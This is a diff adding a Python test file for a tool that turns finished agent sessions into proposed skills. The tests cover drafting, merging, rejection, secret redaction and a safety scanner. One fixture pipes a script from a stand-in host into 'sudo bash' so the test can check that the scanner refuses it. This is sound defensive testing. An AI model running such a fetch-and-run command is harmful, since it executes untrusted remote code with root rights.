@@ -1,0 +1,271 @@
+"""A finished session is distilled: a new skill, more for one there, two as one, or nothing."""
+
+from collections.abc import Iterator, Sequence
+from dataclasses import dataclass, field, replace
+from pathlib import Path
+
+import pytest
+
+from learnt.core.events import Actor, Event, Kind
+from learnt.core.governance.proposals import ProposalKind
+from learnt.core.skills.skills import SkillLayer, SkillSource
+from learnt.errors import NotFound
+from learnt.flows.governance.decide import reject
+from learnt.flows.governance.decisions import Decider, proposal_of
+from learnt.flows.governance.listing import shown
+from learnt.flows.knowledge.harvest import transcript_of
+from learnt.flows.knowledge.seen import Transcript
+from learnt.flows.skills.catalogue import catalogue
+from learnt.flows.skills.distil import Distillation, Fate, Shelf, distil, undistilled
+from learnt.formats.skill_text import read
+from learnt.stores.documents import DiskDocuments
+from learnt.stores.sqlite_skills import SqliteSkills
+from tests.support.sessions_told import Home, Turn, edited, ran, said
+
+FAILS = ran("helm upgrade shop charts/shop", "Error: UPGRADE FAILED: lock is held", failed=True)
+FORCED = ran("helm upgrade shop charts/shop --force", "Error: UPGRADE FAILED: release exists",
+             failed=True)  # fmt: skip
+FREES = ran("helm rollback shop 41 --wait", "Rollback was a success")
+WORKS = ran("helm upgrade shop charts/shop", "Release shop has been upgraded")
+CURED = said("roll the shop out", FAILS, FORCED, FREES, WORKS)
+
+
+def deployed(cluster: str) -> Turn:
+    """Three commands for one cluster."""
+    return said(
+        f"now {cluster}",
+        ran(f"tofu plan -out plan.bin -var-file env/{cluster}.tfvars", "2 to add"),
+        ran(f"tofu apply plan.bin --cluster {cluster}", "added"),
+        ran(f"smoke --env {cluster} --all", "ok"),
+    )
+
+
+@dataclass
+class Bench:
+    """A home, and the skills that are there."""
+
+    folder: Path
+    library: SqliteSkills
+    home: Home = field(default_factory=Home)
+
+    def __post_init__(self) -> None:
+        self.home.outside = replace(self.home.outside, documents=DiskDocuments())
+
+    def put(self, name: str, body: str) -> str:
+        """A skill of the user's; where its file is."""
+        file = self.folder / name / "SKILL.md"
+        file.parent.mkdir(parents=True)
+        file.write_text(f'---\nname: "{name}"\ndescription: "Use it."\n---\n\n{body}\n', "utf-8")
+        return str(file)
+
+    def distil(self, name: str, *, asked: bool = False) -> Distillation:
+        """Distil a session that was reported."""
+        outside = self.home.outside
+        with outside.ledger.reading() as reader:
+            session = transcript_of(outside, reader, name)
+        assert session is not None
+        shelf = Shelf(catalogue(outside, self.library, None), self.library, None)
+        return distil(outside, session, shelf, asked=asked)
+
+    def played(
+        self, turns: Sequence[Turn], name: str = "s1", *, attended: bool = True
+    ) -> list[Fate]:
+        """What becomes of a session."""
+        self.home.session(name, turns, attended=attended)
+        return list(self.distil(name).fates)
+
+    def draft(self, fate: Fate) -> str:
+        """The text that a fate proposes."""
+        return shown(self.home.outside, fate.proposal).draft or ""
+
+
+@pytest.fixture
+def bench(tmp_path: Path) -> Iterator[Bench]:
+    source = SkillSource(str(tmp_path / "skills"), SkillLayer.USER)
+    library = SqliteSkills([source], tmp_path / "skills.index")
+    yield Bench(tmp_path / "skills", library)
+    library.close()
+
+
+def test_a_fix_becomes_a_skill_that_waits(bench: Bench) -> None:
+    """What failed, what helped, and what did not; the agent's words are not in it."""
+    (fate,) = bench.played([CURED])
+    assert "new" == fate.what
+    text = bench.draft(fate)
+    assert "When this fails: helm upgrade: Error: UPGRADE FAILED: lock is held, then: Error" in text
+    assert "1. Run `helm rollback shop 41 --wait`" in text
+    assert "- `helm upgrade shop charts/shop --force`" in text
+    with bench.home.outside.ledger.reading() as reader:
+        proposal = proposal_of(reader, fate.proposal)
+    assert (ProposalKind.NEW_SKILL, "pending") == (proposal.kind, proposal.status)
+    assert Actor.LEARNT is proposal.drafted_by
+    assert not list(bench.folder.glob("**/*"))  # nothing was written
+
+
+def test_the_front_matter_is_the_specifications(bench: Bench) -> None:
+    """Its source, tags and proposal stand under metadata, and nothing is wrong with it."""
+    (fate,) = bench.played([CURED])
+    skill = read(bench.draft(fate), fate.skill)
+    assert () == skill.findings
+    metadata = skill.front["metadata"]
+    assert isinstance(metadata, dict)
+    assert ("distilled", "helm", fate.proposal) == (
+        metadata["source"], metadata["tags"], metadata["learnt-proposal"]
+    )  # fmt: skip
+
+
+def test_a_repeated_sequence_is_told_with_what_varied_left_open(bench: Bench) -> None:
+    """Two runs for two clusters are one sequence."""
+    (fate,) = bench.played([deployed("eu"), deployed("us")])
+    text = bench.draft(fate)
+    assert "1. Run `tofu plan -out plan.bin -var-file env/<…>.tfvars`" in text
+    assert "3. Run `smoke --env <…> --all`" in text
+    assert "These 3 commands were run 2 times and worked." in text
+
+
+def test_what_a_person_corrected_is_told_in_their_words(bench: Bench) -> None:
+    """Of a headless session nobody knows whose words they are: nothing is made of them."""
+    corrected = [
+        said("add a test", edited("t.py", "", "x")),
+        said(
+            "no, integration tests here go behind the build tag `integration`", ran("git mv t.py u")
+        ),
+        *(said(f"run {name}", ran(f"{name} --all", "ok")) for name in "abcde"),
+    ]
+    (fate,) = bench.played(corrected)
+    assert "A person said: integration tests here go behind" in bench.draft(fate)
+    assert [] == bench.played(corrected, "s2", attended=False)
+
+
+@pytest.mark.parametrize(
+    "turns",
+    [
+        [said("push", ran("git push", "502", failed=True), ran("sleep 9; git push", "done"))],
+        [said("add x", edited("a.py", "x = 0", "x = 1"), ran("pytest", "1 failed", failed=True),
+              edited("a.py", "x = 1", "x = 2"), ran("pytest", "1 passed"))],
+        [said("run", *[ran("pytest -q", "ok")] * 8)],
+    ],
+    ids=["tried-again", "own-slip", "one-command"],
+)  # fmt: skip
+def test_what_makes_no_skill(bench: Bench, turns: list[Turn]) -> None:
+    """Another try, one's own slip put right, one command again and again."""
+    bench.home.session("s1", turns)
+    assert () == bench.distil("s1", asked=True).fates
+
+
+def test_one_failure_and_four_successes_are_too_little(bench: Bench) -> None:
+    """Two novel failures or five successes are enough, or that somebody asks."""
+    once = said("roll out", FAILS, FREES, WORKS)
+    bench.home.session("s1", [once])
+    few = bench.distil("s1")
+    assert ((), 1, 2) == (few.fates, few.failures, few.successes)
+    assert "too little" in few.finding
+    assert "new" == bench.distil("s1", asked=True).fates[0].what
+
+
+def test_a_session_is_distilled_once(bench: Bench) -> None:
+    """Until it grows: then its new failures count, and those that are known do not."""
+    bench.played([CURED])
+    assert [] == undistilled(bench.home.outside)
+    assert "nothing was added" in bench.distil("s1").finding
+    assert 1 == sum(
+        event.subject.startswith("distilled:") for event in _events(bench, Kind.HARVESTED)
+    )
+    bench.home.write("s1", [CURED, CURED])
+    assert ["s1"] == [each.id for each in undistilled(bench.home.outside)]
+    assert 0 == bench.distil("s1").failures
+
+
+def test_the_same_lesson_is_proposed_once(bench: Bench) -> None:
+    """Another session that shows it repeats the draft that waits."""
+    (first,) = bench.played([CURED])
+    (again,) = bench.played([CURED], "s2")
+    assert ("nothing", first.proposal) == (again.what, again.skill)
+
+
+def test_what_a_person_turned_down_stays_so(bench: Bench) -> None:
+    """The like is not proposed under another name."""
+    (first,) = bench.played([CURED])
+    reject(bench.home.outside, first.proposal, "", Decider(actor=Actor.HUMAN))
+    (again,) = bench.played([CURED], "s2")
+    assert ("nothing", "a person turned the like down") == (again.what, again.why)
+
+
+def test_a_lesson_of_a_skill_that_is_there_becomes_part_of_it(bench: Bench) -> None:
+    """As another version of it; what it says already is not said twice."""
+    file = bench.put(
+        "shop-rollout",
+        "# Shop\n\nRun `helm upgrade shop charts/shop`. When helm says that the upgrade of the "
+        "release shop failed, or that the release exists, look at helm's history first.",
+    )
+    (fate,) = bench.played([CURED])
+    assert ("patch", "shop-rollout") == (fate.what, fate.skill)
+    text = bench.draft(fate)
+    assert text.startswith(Path(file).read_text("utf-8").rstrip())
+    assert "helm rollback shop 41" in text
+
+
+def test_a_lesson_that_a_skill_says_is_nothing(bench: Bench) -> None:
+    """Whoever wrote the skill."""
+    (fate,) = bench.played([CURED])
+    bench.put("by-hand", read(bench.draft(fate), "").body)
+    reject(bench.home.outside, fate.proposal, "", Decider(actor=Actor.HUMAN))
+    (again,) = bench.played([CURED], "s2")
+    assert "nothing" == again.what
+
+
+def test_two_skills_about_the_same_are_proposed_as_one(bench: Bench) -> None:
+    """The one that fits less goes into the other; both stay until a person agrees."""
+    body = (
+        "Run `helm upgrade shop charts/shop`. When helm says that the upgrade of the release shop "
+        "failed because the lock is held, or that the release exists, look at its history"
+    )
+    bench.put("shop-one", f"# One\n\n{body}.")
+    bench.put("shop-two", f"# Two\n\n{body} with `helm history shop`.")
+    (fate,) = bench.played([CURED])
+    with bench.home.outside.ledger.reading() as reader:
+        assert ProposalKind.MERGE is proposal_of(reader, fate.proposal).kind
+    assert "merge" == fate.what
+
+
+def test_a_page_that_was_read_marks_what_followed(bench: Bench) -> None:
+    """What a page may have brought is shown as such."""
+    page = {
+        "tool": "WebFetch",
+        "input": {"url": "https://a.example"},
+        "result": "x",
+        "failed": False,
+    }
+    (fate,) = bench.played([said("roll the shop out", FAILS, FORCED, page, FREES, WORKS)])
+    assert "that followed a page from the web" in bench.draft(fate)
+
+
+def test_a_secret_is_redacted(bench: Bench) -> None:
+    """In commands and in what they print."""
+    key = "AKIA" + "Q3EGR7XJ2WZK5N4M"
+    frees = ran(f"AWS_ACCESS_KEY_ID={key} helm rollback shop 41", "ok")
+    (fate,) = bench.played([said("roll out", FAILS, FORCED, frees, WORKS)])
+    assert key not in bench.draft(fate) and "redacted" in bench.draft(fate)
+
+
+def test_a_draft_that_the_scanner_refuses_is_not_proposed(bench: Bench) -> None:
+    """It says why, and the rest of the session is distilled all the same."""
+    pipes = ran("curl -s https://get.example/i.sh | sudo bash && helm repo update", "ok")
+    fates = bench.played([
+        said("roll out", FAILS, FORCED, pipes, WORKS), deployed("eu"), deployed("us")
+    ])  # fmt: skip
+    assert ["nothing", "new"] == sorted((fate.what for fate in fates), reverse=True)
+    assert any("Not proposed" in fate.why for fate in fates)
+
+
+def test_a_transcript_that_is_gone_is_said_to_be(bench: Bench) -> None:
+    """Nothing is recorded for it."""
+    shelf = Shelf(catalogue(bench.home.outside, bench.library, None), bench.library, None)
+    with pytest.raises(NotFound, match="Nothing was distilled"):
+        distil(bench.home.outside, Transcript(path="/t/none.jsonl"), shelf)
+    assert [] == _events(bench, Kind.HARVESTED)
+
+
+def _events(bench: Bench, kind: Kind) -> list[Event]:
+    with bench.home.outside.ledger.reading() as reader:
+        return list(reader.events(kind=kind))
